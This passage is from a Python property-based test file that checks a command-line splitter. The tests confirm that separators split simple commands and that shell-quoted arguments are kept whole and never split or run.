def test_separators_between_simple_commands_always_split(
    commands: list[tuple[str, list[str]]], data: st.DataObject
) -> None:
    line = ""
    for index, (name, args) in enumerate(commands):
        if index:
            line += data.draw(SEPARATORS)
        line += " ".join([name, *args])
    result = split_command_line(line)
    assert result.certain, result.problem
    assert [list(c) for c in result.commands] == [[name, *args] for name, args in commands]


@settings(max_examples=300, deadline=None)
@given(SIMPLE_NAMES, st.lists(st.text(max_size=30), max_size=5))
def test_quoted_arguments_are_never_split_or_run(name: str, args: list[str]) -> None:
    result = split_command_line(shlex.join([name, *args]))
    assert result.certain, result.problem
    assert result.commands == ((name, *args),)
